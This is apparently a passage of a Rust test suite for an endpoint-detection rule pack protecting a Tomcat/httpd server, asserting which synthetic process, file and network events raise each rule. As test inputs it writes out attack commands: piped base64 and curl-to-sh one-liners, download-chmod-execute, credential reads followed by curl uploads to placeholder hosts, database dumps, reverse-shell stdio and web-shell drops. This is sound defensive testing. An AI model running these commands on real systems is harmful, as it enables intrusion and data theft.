//! Every rule of the EPMM pack, with a scenario that must raise it and one that must not,
//! on synthetic events run through the process table and the engine as a live run does.

use std::sync::Arc;

use sensor_proto::v1::{
    Action, Alert, BindEvent, BpfLoadEvent, ConnectEvent, DupEvent, Enforcement, Event,
    ExeIdentity, ExecEvent, ExecFailedEvent, FdInfo, FdKind, FileEvent, FileOp, ForkEvent,
    ListenEvent, ProcMemWriteEvent, ProcessVmWriteEvent, PtraceEvent, SignalEvent, SocketInfo,
    event,
};

use super::{
    Engine,
    alert::AgentIdentity,
    rules::{self, RuleSet},
    sigma::SigmaSet,
    threshold::MAX_EVIDENCE,
    users::UserNames,
};
use crate::{decode::BootClock, proctable::ProcessTable};

const INIT: u32 = 1;
const HTTPD: u32 = 100;
const HELPER: u32 = 110;
const TOMCAT: u32 = 200;
const SSHD: u32 = 300;
const ADMIN_SHELL: u32 = 310;
/// The agent under test (`Engine::new`'s agent pid).
const AGENT: u32 = 9999;

struct World {
    table: ProcessTable,
    engine: Engine,
    now: u64,
    next_pid: u32,
    /// The identity the next exec's executable has, instead of `installed`'s.
    next_identity: Option<ExeIdentity>,
    /// The connections the next exec's parent holds (what the pipeline reads from /proc).
    next_parent_connections: Vec<SocketInfo>,
    /// What the kernel's enforcement decided for the next exec.
    next_enforcement: Option<Enforcement>,
}

fn tomcat_argv() -> Vec<&'static str> {
    vec![
        "/usr/java/default/bin/java",
        "-Djava.util.logging.config.file=/mi/tomcat/conf/logging.properties",
        "-Dvsp.branding=mobileiron",
        "org.apache.catalina.startup.Bootstrap",
        "start",
    ]
}

impl World {
    fn with_rules(set: RuleSet) -> Self {
        let engine = Engine::new(
            Arc::new(set),
            Arc::new(SigmaSet::default()),
            UserNames::parse("root:x:0:0::/:/bin/sh\ntomcat:x:91:91::/:/sbin/nologin\n"),
            AgentIdentity {
                agent_id: "test-agent".into(),
                host: "epmm-test".into(),
            },
            BootClock::default(),
            AGENT,
        );
        let mut w = World {
            table: ProcessTable::default(),
            engine,
            now: 1_000_000_000,
            next_pid: 1000,
            next_identity: None,
            next_parent_connections: Vec::new(),
            next_enforcement: None,
        };
        w.exec_at(INIT, 0, "/usr/lib/systemd/systemd", &["/sbin/init"], 0);
        w.exec_at(
            HTTPD,
            INIT,
            "/usr/sbin/httpd",
            &["/usr/sbin/httpd", "-DFOREGROUND"],
            0,
        );
        w.exec_at(
            HELPER,
            HTTPD,
            "/usr/bin/bash",
            &["/bin/bash", "/mi/bin/map-appstore-url"],
            0,
        );
        w.exec_at(
            TOMCAT,
            INIT,
            "/usr/java/jdk1.8.0/bin/java",
            &tomcat_argv(),
            91,
        );
        w.exec_at(SSHD, INIT, "/usr/sbin/sshd", &["sshd: misupport@notty"], 0);
        w.exec_at(ADMIN_SHELL, SSHD, "/usr/bin/bash", &["-bash"], 0);
        w
    }

    fn new() -> Self {
        Self::with_rules(
            rules::compile_texts(&[(rules::DEFAULT_PACK_NAME.into(), rules::DEFAULT_PACK.into())])
                .unwrap(),
        )
    }

    fn feed(&mut self, mut ev: Event) -> Vec<Alert> {
        self.engine.name_enforcement(&mut ev);
        self.now += 1_000_000;
        ev.boot_ns = self.now;
        self.table.apply(&ev);
        self.engine
            .on_event(&std::sync::Arc::new(ev), &mut self.table)
    }

    fn exec_at(&mut self, pid: u32, ppid: u32, exe: &str, argv: &[&str], uid: u32) -> Vec<Alert> {
        self.exec_with(pid, ppid, exe, argv, uid, FdKind::Pipe)
    }

    fn exec_with(
        &mut self,
        pid: u32,
        ppid: u32,
        exe: &str,
        argv: &[&str],
        uid: u32,
        stdio: FdKind,
    ) -> Vec<Alert> {
        let stdio = (0..3)
            .map(|fd| FdInfo {
                fd,
                kind: stdio as i32,
                socket: (stdio == FdKind::Socket).then(|| SocketInfo {
                    family: "inet".into(),
                    r#type: "stream".into(),
                    remote_addr: "203.0.113.9".into(),
                    remote_port: 443,
                    ..Default::default()
                }),
                ..Default::default()
            })
            .collect();
        let now = self.now;
        let exe_identity = self.next_identity.take().or_else(|| installed(exe));
        let parent_connections = std::mem::take(&mut self.next_parent_connections);
        let enforcement = self.next_enforcement.take();
        self.feed(Event {
            pid,
            tid: pid,
            uid,
            comm: exe
                .rsplit('/')
                .next()
                .unwrap_or("")
                .chars()
                .take(15)
                .collect(),
            kind: Some(event::Kind::Exec(Box::new(ExecEvent {
                ppid,
                filename: exe.into(),
                exe: exe.into(),
                argv: argv.iter().map(|a| (*a).to_owned()).collect(),
                start_boot_ns: now,
                stdio,
                exe_identity: exe_identity.map(Box::new),
                parent_connections,
                enforcement: enforcement.map(Box::new),
                ..Default::default()
            }))),
            ..Default::default()
        })
    }

    /// fork of `parent` then exec: a new process; returns its pid and the alerts.
    fn spawn(&mut self, parent: u32, exe: &str, argv: &[&str]) -> (u32, Vec<Alert>) {
        self.spawn_with(parent, exe, argv, FdKind::Pipe)
    }

    fn spawn_with(
        &mut self,
        parent: u32,
        exe: &str,
        argv: &[&str],
        stdio: FdKind,
    ) -> (u32, Vec<Alert>) {
        let pid = self.fork(parent);
        let uid = self.table.get(parent).map_or(0, |p| p.uid);
        let alerts = self.exec_with(pid, parent, exe, argv, uid, stdio);
        (pid, alerts)
    }

    /// A forked copy of `parent` that does not exec (a subshell).
    fn fork(&mut self, parent: u32) -> u32 {
        self.next_pid += 1;
        let pid = self.next_pid;
        let now = self.now;
        let uid = self.table.get(parent).map_or(0, |p| p.uid);
        self.feed(Event {
            pid,
            tid: pid,
            uid,
            kind: Some(event::Kind::Fork(ForkEvent {
                parent_pid: parent,
                parent_tid: parent,
                start_boot_ns: now + 1_000_000,
                ..Default::default()
            })),
            ..Default::default()
        });
        pid
    }

    fn on(&mut self, pid: u32, kind: event::Kind) -> Vec<Alert> {
        let uid = self.table.get(pid).map_or(0, |p| p.uid);
        self.feed(Event {
            pid,
            tid: pid,
            uid,
            kind: Some(kind),
            ..Default::default()
        })
    }

    fn file(&mut self, pid: u32, op: FileOp, path: &str) -> Vec<Alert> {
        self.on(
            pid,
            event::Kind::File(FileEvent {
                op: op as i32,
                path: path.into(),
                ..Default::default()
            }),
        )
    }

    fn connect(&mut self, pid: u32, addr: &str, port: u32) -> Vec<Alert> {
        self.connect_failed(pid, addr, port, 0)
    }

    /// A connect that returned `result` (0, or a negative errno).
    fn connect_failed(&mut self, pid: u32, addr: &str, port: u32, result: i32) -> Vec<Alert> {
        self.on(
            pid,
            event::Kind::Connect(ConnectEvent {
                fd: 3,
                socket: Some(SocketInfo {
                    family: "inet".into(),
                    r#type: "stream".into(),
                    remote_addr: addr.into(),
                    remote_port: port,
                    local_addr: "10.0.0.5".into(),
                    local_port: 40000,
                }),
                result,
                ..Default::default()
            }),
        )
    }
}

/// What the agent's executable identities say of the programs the scenarios run: the
/// package that installed them, and whether they are the content of a shell or an
/// interpreter. Anything else (under /tmp, /opt, /mi...) is nobody's package.
fn installed(exe: &str) -> Option<ExeIdentity> {
    let package = match exe {
        "/usr/bin/rpm" => "rpm",
        "/usr/bin/yum" => "yum",
        "/usr/bin/dpkg" => "dpkg",
        "/usr/sbin/logrotate" => "logrotate",
        "/usr/bin/bash" | "/bin/bash" => "bash",
        "/bin/sh" | "/usr/bin/sh" | "/usr/bin/dash" | "/bin/dash" => "dash",
        "/usr/bin/python3" | "/usr/bin/python3.11" => "python3.11-minimal",
        "/usr/bin/perl" => "perl-base",
        "/usr/sbin/httpd" => "httpd",
        "/usr/sbin/sshd" => "openssh-server",
        "/usr/sbin/mysqld" => "mysql-server",
        "/usr/lib/systemd/systemd" => "systemd",
        "/sbin/auditd" | "/usr/sbin/auditd" => "audit",
        e if e.starts_with("/usr/java/") || e.starts_with("/usr/lib/jvm/") => "jdk",
        e if e.starts_with("/usr/bin/") || e.starts_with("/usr/sbin/") => "coreutils",
        _ => "",
    };
    let name = exe.rsplit('/').next().unwrap_or("");
    Some(ExeIdentity {
        package: package.into(),
        shell: !package.is_empty() && matches!(name, "sh" | "bash" | "dash"),
        interpreter: !package.is_empty() && matches!(name, "python3" | "python3.11" | "perl"),
        ..Default::default()
    })
}

fn ids(alerts: &[Alert]) -> Vec<&str> {
    alerts.iter().map(|a| a.rule_id.as_str()).collect()
}

fn has(alerts: &[Alert], rule: &str) -> bool {
    alerts.iter().any(|a| a.rule_id == rule)
}

/// The alerts of one spawn in a fresh world.
fn fresh_spawn(parent: u32, exe: &str, argv: &[&str]) -> Vec<Alert> {
    World::new().spawn(parent, exe, argv).1
}

/// As `fresh_spawn`, with the child's descriptors 0-2 of `stdio`'s kind.
fn fresh_spawn_with(parent: u32, exe: &str, argv: &[&str], stdio: FdKind) -> Vec<Alert> {
    World::new().spawn_with(parent, exe, argv, stdio).1
}

// ---- Lineage ---------------------------------------------------------------------------

#[test]
fn identities_label_the_web_tier_and_its_descendants() {
    let mut w = World::new();
    assert_eq!(
        &*w.table
            .get(TOMCAT)
            .unwrap()
            .lineage
            .as_ref()
            .unwrap()
            .identity,
        "tomcat"
    );
    assert_eq!(
        &*w.table
            .get(HELPER)
            .unwrap()
            .lineage
            .as_ref()
            .unwrap()
            .identity,
        "rewritemap-helper"
    );
    assert_eq!(
        &*w.table
            .get(HTTPD)
            .unwrap()
            .lineage
            .as_ref()
            .unwrap()
            .identity,
        "httpd"
    );
    assert!(w.table.get(ADMIN_SHELL).unwrap().lineage.is_none());
    // A grandchild through fork and exec keeps the label and names its source.
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "env sh"]);
    let (env, _) = w.spawn(sh, "/usr/bin/env", &["/usr/bin/env", "sh"]);
    let label = w.table.get(env).unwrap().lineage.clone().unwrap();
    assert_eq!(label.source_pid, TOMCAT);
    assert_eq!(w.table.depth_to(env, TOMCAT), Some(2));
}

#[test]
fn alert_carries_process_ancestry_lineage_and_evidence() {
    let alerts = fresh_spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
    let a = alerts.iter().find(|a| a.rule_id == "EPMM-B2").expect("B2");
    assert_eq!(a.severity, sensor_proto::v1::Severity::High as i32);
    assert_eq!(a.techniques, ["T1190", "T1059.004"]);
    assert_eq!(a.host, "epmm-test");
    assert_eq!(a.agent_id, "test-agent");
    assert!(a.id.starts_with("test-agent:"));
    let p = a.process.as_ref().unwrap();
    assert_eq!(p.exe, "/bin/sh");
    assert_eq!(p.user, "tomcat");
    let chain: Vec<u32> = a.ancestry.iter().map(|p| p.pid).collect();
    assert_eq!(chain, [TOMCAT, INIT]);
    let lineage = a.lineage.as_ref().unwrap();
    assert_eq!(
        (lineage.identity.as_str(), lineage.source_pid, lineage.depth),
        ("tomcat", TOMCAT, 1)
    );
    assert_eq!(a.evidence.len(), 1);
    assert_eq!(a.count, 1);
}

#[test]
fn repeats_on_one_tree_collapse_and_are_counted() {
    let mut w = World::new();
    let mut raised = 0;
    for _ in 0..5 {
        let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "id"]);
        raised += alerts.iter().filter(|a| a.rule_id == "EPMM-B2").count();
    }
    assert_eq!(raised, 1, "one alert, not five");
    let summary = w.engine.finish();
    let b2: Vec<&Alert> = summary.iter().filter(|a| a.rule_id == "EPMM-B2").collect();
    assert_eq!(b2.len(), 1);
    assert_eq!(b2[0].count, 5);
}

// ---- One positive and one negative scenario per rule ------------------------------------

/// A label a process inherited can never be shed or replaced by what it chooses to look
/// like: names and argv are the attacker's.
#[test]
fn a_descendant_cannot_become_a_web_tier_source() {
    // The payload renames itself after a helper (`exec -a /mi/bin/map-appstore-url bash`):
    // it stays the helper's child, alerts, and so do its own children.
    let mut w = World::new();
    w.engine.set_collapse_window(0);
    let sub = w.fork(HELPER);
    let (fake, alerts) = w.spawn(
        sub,
        "/usr/bin/bash",
        &["/bin/bash", "/mi/bin/map-appstore-url"],
    );
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
    let label = w.table.get(fake).unwrap().lineage.clone().unwrap();
    assert_eq!(label.source_pid, HELPER, "the real helper stays the source");
    let (_, alerts) = w.spawn(fake, "/usr/bin/id", &["id"]);
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));

    // Dressed as the post-hotfix Java mapper, two levels below httpd: not a helper.
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        HELPER,
        "/usr/bin/java",
        &["/bin/java", "-cp", "/mi/bin", "AppStoreUrlMapper"],
    );
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));

    // A Tomcat descendant exec'ing a JVM with Tomcat's arguments: still Tomcat's child.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "java ..."]);
    let (fake, _) = w.spawn(sh, "/usr/java/jdk1.8.0/bin/java", &tomcat_argv());
    assert_eq!(
        w.table
            .get(fake)
            .unwrap()
            .lineage
            .as_ref()
            .unwrap()
            .source_pid,
        TOMCAT
    );

    // The helper itself replacing its image (`exec sh` in the helper's process) is no
    // longer the source: what it runs is a web child.
    let mut w = World::new();
    let alerts = w.exec_at(HELPER, HTTPD, "/usr/bin/sh", &["sh", "-c", "id"], 0);
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));

    // httpd starting a helper still makes a helper (the within: rule of the pack).
    let mut w = World::new();
    let (helper, _) = w.spawn(
        HTTPD,
        "/usr/bin/bash",
        &["/bin/bash", "/mi/bin/map-aft-store-url"],
    );
    let label = w.table.get(helper).unwrap().lineage.clone().unwrap();
    assert_eq!(
        (&*label.identity, label.source_pid),
        ("rewritemap-helper", helper)
    );
}

/// What a program is comes from its content and package, never from its name: a copied
/// shell is a shell, a versioned interpreter an interpreter, and a name exempts nothing.
#[test]
fn identity_not_names_decides_what_a_program_is() {
    let shell_copy = || ExeIdentity {
        sha256: "bash-content".into(),
        shell: true,
        changed_since_boot: true,
        ..Default::default()
    };
    // bash copied to a name no list knows, on a socket: a reverse shell.
    let mut w = World::new();
    w.next_identity = Some(shell_copy());
    let (_, alerts) = w.spawn_with(
        ADMIN_SHELL,
        "/var/lib/misc/kworker",
        &["[kworker/0:1]"],
        FdKind::Socket,
    );
    assert!(has(&alerts, "EPMM-B7"), "{:?}", ids(&alerts));
    // The same copy started by Tomcat: a shell from the JVM.
    let mut w = World::new();
    w.next_identity = Some(shell_copy());
    let (_, alerts) = w.spawn(TOMCAT, "/opt/mi/bin/helper", &["helper", "-c", "id"]);
    assert!(has(&alerts, "EPMM-B2"), "{:?}", ids(&alerts));
    // ... even when it calls itself jspawnhelper: only the JDK's own is plumbing.
    let mut w = World::new();
    w.next_identity = Some(shell_copy());
    let (_, alerts) = w.spawn(TOMCAT, "/opt/mi/lib/jspawnhelper", &["jspawnhelper"]);
    assert!(has(&alerts, "EPMM-B2"), "{:?}", ids(&alerts));
    // A versioned interpreter name no list has.
    let mut w = World::new();
    w.next_identity = Some(ExeIdentity {
        package: "python3.13-minimal".into(),
        interpreter: true,
        ..Default::default()
    });
    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/python3.13", &["python3.13", "-c", "x"]);
    assert!(has(&alerts, "EPMM-B2"), "{:?}", ids(&alerts));

    // A wrapper named rpm (no package installed it) exempts nothing below it; the
    // package's rpm does.
    let mut w = World::new();
    let (fake_rpm, _) = w.spawn(TOMCAT, "/opt/tools/rpm", &["rpm", "-Uvh", "x.rpm"]);
    let (_, alerts) = w.spawn(fake_rpm, "/tmp/.x/payload", &["payload"]);
    assert!(has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
    let mut w = World::new();
    let (rpm, _) = w.spawn(ADMIN_SHELL, "/usr/bin/rpm", &["rpm", "-Uvh", "x.rpm"]);
    let (_, alerts) = w.spawn(rpm, "/tmp/rpm-tmp.1234", &["/tmp/rpm-tmp.1234"]);
    assert!(!has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));
    // A script run by an interpreter counts as its package's: python3 /usr/bin/dnf.
    let mut w = World::new();
    w.next_identity = Some(ExeIdentity {
        package: "python3.11-minimal".into(),
        interpreter: true,
        script_package: "dnf".into(),
        ..Default::default()
    });
    let (dnf, _) = w.spawn(
        ADMIN_SHELL,
        "/usr/bin/python3.11",
        &["/usr/bin/python3", "/usr/bin/dnf", "update"],
    );
    let (_, alerts) = w.spawn(dnf, "/tmp/rpm-tmp.99", &["/tmp/rpm-tmp.99"]);
    assert!(!has(&alerts, "EPMM-B17"), "{:?}", ids(&alerts));

    // A listener called sshd that no package installed, started from the web tier, is a
    // new listener; the real sshd is the baseline.
    let listen = event::Kind::Listen(ListenEvent {
        fd: 3,
        backlog: 1,
        socket: Some(SocketInfo {
            family: "inet".into(),
            r#type: "stream".into(),
            local_addr: "0.0.0.0".into(),
            local_port: 2222,
            ..Default::default()
        }),
        ..Default::default()
    });
    let mut w = World::new();
    let (fake_sshd, _) = w.spawn(TOMCAT, "/var/lib/tomcat/sshd", &["sshd"]);
    assert!(has(&w.on(fake_sshd, listen.clone()), "EPMM-B25"));
    let mut w = World::new();
    assert!(!has(&w.on(SSHD, listen), "EPMM-B25"));
}

#[test]
fn b1_helper_subshell_payload() {
    let mut w = World::new();
    let sub = w.fork(HELPER);
    let (_, alerts) = w.spawn(sub, "/usr/bin/id", &["id"]);
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
    // The helper's own baseline call stays quiet.
    let alerts = fresh_spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
    // argv[0] forged into the baseline command (`exec -a date /tmp/.x/p +%s`), or a copy
    // of date no package installed: the executable decides, not argv.
    let alerts = fresh_spawn(HELPER, "/tmp/.x/p", &["date", "+%s"]);
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
    let mut w = World::new();
    w.next_identity = Some(ExeIdentity::default());
    let (_, alerts) = w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
}

#[test]
fn b2_tomcat_shell() {
    let alerts = fresh_spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
    assert!(has(&alerts, "EPMM-B2"));
    // jspawnhelper, the JVM's plumbing, is not a child to alert on; nor is an admin's sh.
    let mut w = World::new();
    let (_, alerts) = w.spawn(
        TOMCAT,
        "/usr/lib/jvm/java-17/lib/jspawnhelper",
        &["jspawnhelper", "1:2:3"],
    );
    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh", "-c", "uname -a"]);
    assert!(alerts.is_empty(), "{:?}", ids(&alerts));
}

#[test]
fn b3_tomcat_runs_curl_directly() {
    let alerts = fresh_spawn(TOMCAT, "/usr/bin/curl", &["curl", "http://x.oast.fun"]);
    assert!(has(&alerts, "EPMM-B3"));
    let alerts = fresh_spawn(
        ADMIN_SHELL,
        "/usr/bin/curl",
        &["curl", "https://updates.example"],
    );
    assert!(!has(&alerts, "EPMM-B3"));
}

#[test]
fn b5_download_chmod_execute() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
    w.spawn(
        sh,
        "/usr/bin/curl",
        &["curl", "-o", "/tmp/kl", "http://s3/kl"],
    );
    let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
    w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
    let (_, alerts) = w.spawn(sh, "/tmp/kl", &["/tmp/kl"]);
    assert!(has(&alerts, "EPMM-B5"), "{:?}", ids(&alerts));
    let b5 = alerts.iter().find(|a| a.rule_id == "EPMM-B5").unwrap();
    assert_eq!(b5.evidence.len(), 3, "download, chmod, exec");
    // Running a different file than the one made executable is not the sequence.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "..."]);
    w.spawn(
        sh,
        "/usr/bin/curl",
        &["curl", "-o", "/tmp/kl", "http://s3/kl"],
    );
    let (chmod, _) = w.spawn(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/kl"]);
    w.file(chmod, FileOp::ChmodExec, "/tmp/kl");
    let (_, alerts) = w.spawn(sh, "/usr/bin/ls", &["ls"]);
    assert!(!has(&alerts, "EPMM-B5"));
}

#[test]
fn b5_a_program_the_web_tier_wrote_runs_whoever_starts_it() {
    // Dropped by one request, started an hour later by cron: no window, the writer is
    // remembered.
    let mut w = World::new();
    let (sh, _) = w.spawn(
        TOMCAT,
        "/bin/sh",
        &["sh", "-c", "cp x /var/tmp/.cache/kworker"],
    );
    w.file(sh, FileOp::CreateExec, "/var/tmp/.cache/kworker");
    w.now += 3_600_000_000_000;
    let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
    let (_, alerts) = w.spawn(cron, "/var/tmp/.cache/kworker", &["kworker"]);
    assert!(has(&alerts, "EPMM-B5-WRITTEN"), "{:?}", ids(&alerts));
    // Renamed into place by the web tier: the destination is what it wrote.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
    w.on(
        sh,
        event::Kind::File(FileEvent {
            op: FileOp::Rename as i32,
            path: "/tmp/a".into(),
            other_path: "/tmp/b".into(),
            path_is_source: true,
            ..Default::default()
        }),
    );
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/b", &["b"]);
    assert!(has(&alerts, "EPMM-B5-WRITTEN"), "{:?}", ids(&alerts));
    // An admin's own build run from /tmp was not written by the web tier.
    let mut w = World::new();
    w.file(ADMIN_SHELL, FileOp::CreateExec, "/tmp/tool");
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/tmp/tool", &["tool"]);
    assert!(!has(&alerts, "EPMM-B5-WRITTEN"), "{:?}", ids(&alerts));
}

#[test]
fn b6_piped_and_encoded_one_liners() {
    let alerts = fresh_spawn(
        TOMCAT,
        "/bin/bash",
        &["bash", "-c", "echo aWQK | base64 -d | bash"],
    );
    assert!(has(&alerts, "EPMM-B6"));
    let alerts = fresh_spawn(
        TOMCAT,
        "/bin/bash",
        &["bash", "-c", "curl -s http://x/s.sh|sh"],
    );
    assert!(has(&alerts, "EPMM-B6"));
    let alerts = fresh_spawn(
        ADMIN_SHELL,
        "/bin/bash",
        &["bash", "-c", "echo aWQK | base64 -d | bash"],
    );
    assert!(!has(&alerts, "EPMM-B6"));
}

#[test]
fn b7_reverse_shell_on_a_socket() {
    let alerts = fresh_spawn_with(ADMIN_SHELL, "/bin/bash", &["bash", "-i"], FdKind::Socket);
    assert!(
        has(&alerts, "EPMM-B7"),
        "socket stdio is a reverse shell wherever it comes from"
    );
    let alerts = fresh_spawn_with(TOMCAT, "/bin/sh", &["/bin/sh"], FdKind::Pipe);
    assert!(!has(&alerts, "EPMM-B7"), "the JVM's children get pipes");
}

#[test]
fn b7_dup_of_a_socket_onto_stdio() {
    let dup = |kind: FdKind| {
        event::Kind::Dup(DupEvent {
            call: "dup2".into(),
            oldfd: 3,
            newfd: 0,
            result: 0,
            file: Some(FdInfo {
                kind: kind as i32,
                ..Default::default()
            }),
            ..Default::default()
        })
    };
    let mut w = World::new();
    let (py, _) = w.spawn(ADMIN_SHELL, "/usr/bin/python3", &["python3", "-c", "..."]);
    assert!(has(&w.on(py, dup(FdKind::Socket)), "EPMM-B7-DUP"));
    assert!(!has(&w.on(py, dup(FdKind::Pipe)), "EPMM-B7-DUP"));
}

#[test]
fn b8_java_native_reverse_shell() {
    let mut w = World::new();
    w.connect(TOMCAT, "127.0.0.1", 4444);
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(has(&alerts, "EPMM-B8"), "{:?}", ids(&alerts));
    // Tomcat's own connector and MySQL are baseline destinations.
    let mut w = World::new();
    w.connect(TOMCAT, "127.0.0.1", 3306);
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(!has(&alerts, "EPMM-B8"));
    // Too late: more than 5 s between the connect and the shell.
    let mut w = World::new();
    w.connect(TOMCAT, "127.0.0.1", 4444);
    w.now += 6_000_000_000;
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(!has(&alerts, "EPMM-B8"));
}

#[test]
fn b8_reverse_shell_linked_by_the_socket_the_jvm_holds() {
    let held = |port: u32| SocketInfo {
        family: "inet".into(),
        r#type: "stream".into(),
        local_addr: "10.0.0.5".into(),
        local_port: 41000,
        remote_addr: "198.51.100.7".into(),
        remote_port: port,
    };
    // Minutes after the connect: no window, the socket the JVM still holds links them.
    let mut w = World::new();
    w.connect(TOMCAT, "198.51.100.7", 4444);
    w.now += 600_000_000_000;
    w.next_parent_connections = vec![held(4444), held(3306)];
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(has(&alerts, "EPMM-B8-SOCKET"), "{:?}", ids(&alerts));
    assert!(!has(&alerts, "EPMM-B8"), "past the sequence's window");
    // A python interpreter on pipes is the same channel.
    let mut w = World::new();
    w.next_parent_connections = vec![held(443)];
    let (_, alerts) = w.spawn(TOMCAT, "/usr/bin/python3", &["python3"]);
    assert!(has(&alerts, "EPMM-B8-SOCKET"), "{:?}", ids(&alerts));
    // The JVM's newest connection is MySQL, or it holds none: no link.
    let mut w = World::new();
    w.next_parent_connections = vec![held(3306), held(4444)];
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(!has(&alerts, "EPMM-B8-SOCKET"));
    let mut w = World::new();
    let (_, alerts) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh"]);
    assert!(!has(&alerts, "EPMM-B8-SOCKET"));
    // An admin's shell outside the web tier holding connections is nobody's channel.
    let mut w = World::new();
    w.next_parent_connections = vec![held(4444)];
    let (_, alerts) = w.spawn(ADMIN_SHELL, "/bin/sh", &["/bin/sh"]);
    assert!(!has(&alerts, "EPMM-B8-SOCKET"));
}

#[test]
fn b9_web_shell_written() {
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["/bin/sh", "-c", "echo > 403.jsp"]);
    assert!(has(
        &w.file(sh, FileOp::Create, "/mi/tomcat/webapps/mifs/403.jsp"),
        "EPMM-B9"
    ));
    let mut w = World::new();
    let (rpm, _) = w.spawn(ADMIN_SHELL, "/usr/bin/rpm", &["rpm", "-Uvh", "mi.rpm"]);
    assert!(
        w.file(rpm, FileOp::Create, "/mi/tomcat/webapps/mifs/index.jsp")
            .is_empty(),
        "upgrades write JSPs"
    );
}

#[test]
fn b9_jvm_writes_a_jsp() {
    let mut w = World::new();
    assert!(has(
        &w.file(TOMCAT, FileOp::Create, "/mi/tomcat/webapps/mifs/x.jsp"),
        "EPMM-B9-JVM"
    ));
    // Jasper compiling into the work directory is not the web root.
    assert!(
        w.file(
            TOMCAT,
            FileOp::Create,
            "/mi/tomcat/work/Catalina/x_jsp.class"
        )
        .is_empty()
    );
}

#[test]
fn b10_data_staged_as_css() {
    let mut w = World::new();
    let (dump, _) = w.spawn(
        TOMCAT,
        "/usr/bin/mysqldump",
        &["mysqldump", "--databases", "mifs"],
    );
    assert!(has(
        &w.file(
            dump,
            FileOp::Create,
            "/mi/tomcat/webapps/mifs/css/mibasecss.css"
        ),
        "EPMM-B10"
    ));
    let mut w = World::new();
    assert!(!has(
        &w.file(
            TOMCAT,
            FileOp::Create,
            "/mi/tomcat/webapps/mifs/css/cache.css"
        ),
        "EPMM-B10"
    ));
}

#[test]
fn b11_database_theft() {
    let alerts = fresh_spawn(
        TOMCAT,
        "/usr/bin/mysqldump",
        &["mysqldump", "--databases", "mifs", "--tables", "mi_user"],
    );
    assert!(has(&alerts, "EPMM-B11"));
    // A backup by cron, outside the web tier, is not theft.
    let mut w = World::new();
    let (cron, _) = w.spawn(INIT, "/usr/sbin/crond", &["crond"]);
    let (_, alerts) = w.spawn(
        cron,
        "/usr/bin/mysqldump",
        &["mysqldump", "--databases", "mifs"],
    );
    assert!(!has(&alerts, "EPMM-B11"));
}

#[test]
fn b11_secrets_then_connect_or_archive() {
    // cat of the MySQL credentials, then curl sending something out, minutes later.
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh", "-c", "..."]);
    w.spawn(sh, "/usr/bin/cat", &["cat", "/mi/files/system/.mifpp"]);
    w.now += 120_000_000_000;
    let (curl, _) = w.spawn(sh, "/usr/bin/curl", &["curl", "-T", "-", "https://x/"]);
    let alerts = w.connect(curl, "198.51.100.7", 443);
    assert!(has(&alerts, "EPMM-B11-EXFIL"), "{:?}", ids(&alerts));
    let theft = alerts
        .iter()
        .find(|a| a.rule_id == "EPMM-B11-EXFIL")
        .unwrap();
    assert_eq!(theft.evidence.len(), 2, "the read and the connect");
    // A python one-liner naming the properties, then an archiver.
    let mut w = World::new();
    let (py, _) = w.spawn(
        TOMCAT,
        "/usr/bin/python3",
        &[
            "python3",
            "-c",
            "print(open('/mi/tomcat-properties/x').read())",
        ],
    );
    let (_, alerts) = w.spawn(py, "/usr/bin/tar", &["tar", "czf", "/tmp/a.tgz", "/tmp/x"]);
    assert!(has(&alerts, "EPMM-B11-ARCHIVE"), "{:?}", ids(&alerts));
    // Tomcat reading its own properties and talking to MySQL; a connect without a read
    // before it; a read followed by a connect to MySQL only.
    let mut w = World::new();
    w.connect(TOMCAT, "198.51.100.7", 443);
    let (sh, _) = w.spawn(
        TOMCAT,
        "/bin/sh",
        &["sh", "-c", "cat /mi/files/system/.mifpp"],
    );
    let mut all = w.connect(sh, "127.0.0.1", 3306);
    let mut w = World::new();
    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
